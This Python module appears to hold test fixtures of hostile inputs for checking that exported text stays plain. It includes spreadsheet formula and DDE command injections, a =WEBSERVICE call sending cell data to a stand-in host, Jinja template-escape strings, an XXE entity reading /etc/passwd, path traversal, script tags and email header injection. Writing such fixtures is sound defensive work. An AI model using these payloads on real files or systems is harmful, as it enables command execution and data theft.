"""Texts that units could write and that some program could take for more than text.

``MARK`` stands in every text that would call, link, run or print something; it must never be found anywhere but as
plain text. ``RENDERED`` is what a template engine would print for the tags among them.
"""

MARK = "zq7"
RENDERED = "zq42"

FORMULAS = (
    "=cmd|'/c calc'!zq7",
    '=HYPERLINK("http://zq7.invalid","查看")',
    "+zq7+1",
    "-zq7-1",
    "@SUM(zq7)",
    "\t=zq7()",
    "\r=zq7()",
    "\n=zq7()",
    "＝zq7()",
    "＋zq7",
    "－zq7",
    "＠zq7",
    "'=zq7()",
    '"=zq7()',
    "=1+1;=zq7()",
    '=IMPORTXML("http://zq7.invalid")',
    '=WEBSERVICE("http://zq7.invalid/"&A1)',
    "{=zq7()}",
    '=DDE("cmd";"/C zq7";"!A1")',
    "=2+5+cmd|' /C zq7'!'A1'",
    "%0A=zq7()",
    "=-zq7",
)
TAGS = (
    "{{ 'zq' ~ 7*6 }}",
    "{%p for x in ().__class__.__mro__ %}{{ 'zq' ~ 7*6 }}{%p endfor %}",
    "{% raw %}zq7{% endraw %}",
    "{#zq7#}",
    "{{r zq7 }}",
    "[[图：zq7]]",
    "{{#指标}}zq7{{/指标}}",
    "${zq7}",
    "%(zq7)s %s %n",
    "{0.__class__}zq7",
    "[red]zq7[/red]",
    "[link=http://zq7.invalid]点[/link]",
    "[/]zq7",
)
MARKUP = (
    "<script>zq7()</script>",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO zq7</w:instrText></w:r><w:r><w:t>",
    "]]>zq7<![CDATA[",
    "<!-- zq7 -->",
    "<!DOCTYPE x [<!ENTITY zq7 SYSTEM 'file:///etc/passwd'>]>&zq7;",
    "&#x0;&amp;&lt;zq7&gt;",
    "_x003D_zq7_x0028_",
    '" onload="zq7',
)
PLACES = (
    "../../../etc/zq7",
    "..\\..\\zq7.exe",
    "C:\\zq7\\CON",
    "file:///etc/zq7",
    "http://zq7.invalid/?a=1&b=2",
    "\\\\zq7.invalid\\share",
    "NUL",
    "zq7\r\nBcc: zq7@example.invalid",
    "zq7\nSubject: 换了",
    "zq7\r\n\r\n正文",
    "=?utf-8?B?enE3?=",
)
CHARACTERS = (
    "zq7_x0000__x0001__x0008_",
    "zq7_x001B_[31m红",
    "zq7_xD83D_",
    "_xDE00_zq7",
    "zq7_xFFFE__xFFFF_",
    "zq7\u202e倒过来\u202c",
    "zq7\u2066隔离\u2069\u200f",
    "零\u200b宽\ufeffzq7\u2060",
    "行\u2028段\u2029zq7",
    "第一行\r\n第二行\r第三行\nzq7",
    "𠮷野家zq7𠮷",
    "👨‍👩‍👧‍👦zq7🇨🇳",
    "Z̵͓̓a̴l̷g̸o̵zq7",
    "ﷺzq7",
    "字" * 32_000,
    "zq7 " * 8_000,
    "　　zq7　　",
    "\u00a0zq7\u00a0",
    "NaN",
    "1E+308",
    "#REF!",
    "TRUE",
    "",
)
TEXTS = (*FORMULAS, *TAGS, *MARKUP, *PLACES, *CHARACTERS)

PROJECT_NAMES = (
    "",
    '=HYPERLINK("http://zq7.invalid","查看")',
    "{{ 'zq' ~ 7*6 }}",
    "[[图:zq7]]",
    "../../../etc/zq7",
    "C:\\zq7\\CON",
    "<script>zq7()</script>",
    "]]>zq7<![CDATA[",
    "zq7\u202e倒过来\u202c",
    "_x003D_zq7_x0028_",
    "[red]zq7[/red]",
    "@SUM(zq7)",
)
"""What a roster from outside may have in names of projects, which become names of files, too."""
FILE_NAMES = (
    "=cmd zq7.xlsx",
    "-rf zq7.xlsx",
    "{{ 'zq' ~ 7*6 }}.xlsx",
    "[red]zq7.xlsx",
    "zq7\u202excod.xlsx",
    "zq7\nBcc: x.xlsx",
    "zq7\x1b[31m.xlsx",
    "zq7\udcff\udcfe.xlsx",
    "zq7𠮷👨‍👩‍👧.xlsx",
    "zq7'\"<&>.xlsx",
    f"{'长' * 70}zq7.xlsx",
)
